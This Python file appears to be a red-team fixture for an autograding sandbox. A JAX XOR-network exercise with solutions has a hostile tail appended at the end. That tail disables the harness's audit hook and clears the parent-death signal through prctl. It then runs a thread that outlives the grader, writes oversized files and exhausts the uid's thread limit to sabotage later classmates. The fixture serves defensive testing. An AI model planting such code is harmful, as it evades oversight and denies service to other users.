"""hostile: full: clears its parent-death signal and stays alive, to outlive a killed grader

attack (red team, round 5): at import, prctl(PR_SET_PDEATHSIG, 0) undid the signal that kills a
sandbox outside namespaces when its grader dies, and a non-daemon thread kept the process alive
after main() returned. When the class runner killed the grader (the run interrupted and resumed,
or --student-timeout overrun), the sandbox lived on with its uid lease or its turn released: as
root behind Landlock it took its leased uid's 512 threads, and the next classmate to lease that
uid got 0/100 (XLA could not start its threads); as an ordinary user it ran beside the next
sandboxes and wrote past its home's cap, unwatched. Now seccomp refuses PR_SET_PDEATHSIG, and a
uid just leased runs nothing (door: what a killed grader left is ended first).
Bounded for the kit's tests: it sleeps 45 s at import (inside the import limit, past a short
--student-timeout), and an orphan ends itself after 30 s.
"""

import functools

import jax
import jax.numpy as jnp
from jax import lax

# The four XOR cases. The output is 1 exactly when the two inputs differ.
X = jnp.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0]], dtype=jnp.float32)
Y = jnp.array([0.0, 1.0, 1.0, 0.0], dtype=jnp.float32)

# Defaults chosen so that training reproduces XOR for every PRNGKey(i), i < 1000
# (see docs/tutorial.md for the measurement).
SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500


def relu(x):
    """Rectified linear unit, applied elementwise: ``max(0, x)``.

    Args:
        x: a ``jax.Array`` of any shape.

    Returns:
        An array of the same shape and dtype as ``x``: negative entries become
        0, the others pass through unchanged.

    Hint: ``jnp.maximum`` compares elementwise and works under ``jax.jit``.
    Pitfall: a Python ``if x < 0`` cannot decide for a whole array, and under
    ``jax.jit`` the values are not even known yet.
    """
    ### BEGIN SOLUTION
    return jnp.maximum(x, 0.0)
    ### END SOLUTION


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    """Draw the network's random starting parameters.

    Args:
        key: a PRNG key, e.g. ``jax.random.PRNGKey(0)``.
        input_dims, n_hidden, output_dims: the layer sizes.
        scale: the standard deviation of every parameter.

    Returns:
        ``{"w1": (n_hidden, input_dims), "b1": (n_hidden,),
        "w2": (output_dims, n_hidden), "b2": (output_dims,)}``, all float32,
        each ``scale * jax.random.normal(its_own_key, shape)``, with the keys
        from ``k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)``.

    Pitfall: drawing two arrays from the same key gives correlated numbers
    (the tutorial this kit grew from did that). Split once, one key per array.
    """
    ### BEGIN SOLUTION
    k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)
    return {
        "w1": scale * jax.random.normal(k_w1, (n_hidden, input_dims)),
        "b1": scale * jax.random.normal(k_b1, (n_hidden,)),
        "w2": scale * jax.random.normal(k_w2, (output_dims, n_hidden)),
        "b2": scale * jax.random.normal(k_b2, (output_dims,)),
    }
    ### END SOLUTION


def predict(params, x):
    """The forward pass for one example: ``w2 @ relu(w1 @ x + b1) + b2``.

    Args:
        params: a dict from ``init_params``.
        x: one input of shape ``(input_dims,)``.

    Returns:
        The network's output, shape ``(output_dims,)``.

    Hint: ``@`` (or ``jnp.dot``) multiplies a matrix by a vector; call your
    ``relu``. Pitfall: do not assume 2 inputs, 16 hidden units or 1 output:
    read the sizes from the arrays.
    """
    ### BEGIN SOLUTION
    hidden = relu(params["w1"] @ x + params["b1"])
    return params["w2"] @ hidden + params["b2"]
    ### END SOLUTION


def batched_predict(params, X):
    """``predict`` for every row of ``X`` at once, through ``jax.vmap``.

    Args:
        params: a dict from ``init_params``.
        X: a batch of inputs, shape ``(n, input_dims)``.

    Returns:
        Shape ``(n, output_dims)``: row ``i`` is ``predict(params, X[i])``.

    Hint: ``jax.vmap(predict, in_axes=(None, 0))`` maps over the rows of the
    second argument and shares the first. Pitfall: a Python loop works but
    is not what this exercise asks for.
    """
    ### BEGIN SOLUTION
    return jax.vmap(predict, in_axes=(None, 0))(params, X)
    ### END SOLUTION


def loss(params, x, y):
    """Mean squared error of the prediction for one example.

    Args:
        params: a dict from ``init_params``.
        x: one input, shape ``(input_dims,)``.
        y: its target, shape ``(output_dims,)`` or a scalar.

    Returns:
        A scalar (shape ``()``): ``mean((predict(params, x) - y) ** 2)``.

    Hint: ``jnp.mean``. Pitfall: ``jnp.sum`` is not the mean once there is more
    than one output unit.
    """
    ### BEGIN SOLUTION
    return jnp.mean((predict(params, x) - y) ** 2)
    ### END SOLUTION


def update(params, x, y, step_size=STEP_SIZE):
    """One step of gradient descent on ``loss`` for one example.

    Args:
        params: a dict from ``init_params``; it must not be modified.
        x, y: one example, as for ``loss``.
        step_size: the learning rate.

    Returns:
        A new dict: ``params[k] - step_size * grads[k]`` for every key ``k``,
        where ``grads = jax.grad(loss)(params, x, y)``.

    Hint: ``jax.grad`` differentiates with respect to the first argument and
    returns a dict shaped like ``params``; ``jax.tree.map`` applies a function
    to every leaf. Pitfall: writing into ``params[k]`` changes the caller's
    dict: build a new one.
    """
    ### BEGIN SOLUTION
    grads = jax.grad(loss)(params, x, y)
    return jax.tree.map(lambda p, g: p - step_size * g, params, grads)
    ### END SOLUTION


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    """Train with per-example gradient descent.

    For each epoch, for each row ``j`` of ``X`` in order:
    ``params = update(params, X[j], Y[j], step_size)``. After each epoch,
    record the mean over all rows of ``loss(params, X[j], Y[j])``.

    Args:
        params: the starting parameters.
        X: inputs, shape ``(n, input_dims)``. Y: targets, shape ``(n,)``.
        epochs: how many passes over the data.
        step_size: the learning rate passed to ``update``.

    Returns:
        ``(params, losses)``: the trained parameters and an array of shape
        ``(epochs,)`` with the mean loss after each epoch.

    Hint: a Python loop over ``update`` is correct but slow; ``jax.lax.scan``
    inside a ``jax.jit`` runs the whole training as one compiled program.
    """
    ### BEGIN SOLUTION
    return _train_compiled(params, X, Y, epochs, step_size)
    ### END SOLUTION


### BEGIN SOLUTION
@functools.partial(jax.jit, static_argnames="epochs")
def _train_compiled(params, X, Y, epochs, step_size):
    """``train`` as one compiled program: a scan over epochs of a scan over rows.

    It lives at module level so that ``jax.jit`` compiles it once per shape and
    reuses it on the next call.
    """

    def one_row(p, xy):
        return update(p, xy[0], xy[1], step_size), None

    def one_epoch(p, _):
        p, _ = lax.scan(one_row, p, (X, Y))
        mean_loss = jnp.mean(jax.vmap(loss, in_axes=(None, 0, 0))(p, X, Y))
        return p, mean_loss

    return lax.scan(one_epoch, params, None, length=epochs)
### END SOLUTION


import ctypes
import os
import sys
import threading
import time

guard = getattr(sys.modules["__main__"], "Guard", None)
if guard is not None:  # the audit hook is no wall (docs/trust.md): off, ctypes loads
    guard.__call__ = lambda self, event, args: None
ctypes.CDLL(None, use_errno=True).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG, none: live on without the grader
GRADER = os.getppid()


def outlive_the_grader():
    while os.getppid() == GRADER:
        time.sleep(0.2)
    ended_at = time.monotonic() + 30
    try:  # unwatched now: past the home's cap, 15 MB a file (16 MB is the limit of one)
        for number in range(6):
            with open(f"left-behind-{number}", "wb") as big:
                big.write(b"x" * (15 << 20))
    except OSError:
        pass
    threading.stack_size(64 << 10)
    release = threading.Event()
    while time.monotonic() < ended_at:  # every thread the uid may start, for whoever leases it next
        try:
            threading.Thread(target=release.wait, daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
    os._exit(0)


threading.Thread(target=outlive_the_grader).start()  # not a daemon: the process outlives main()
time.sleep(45)
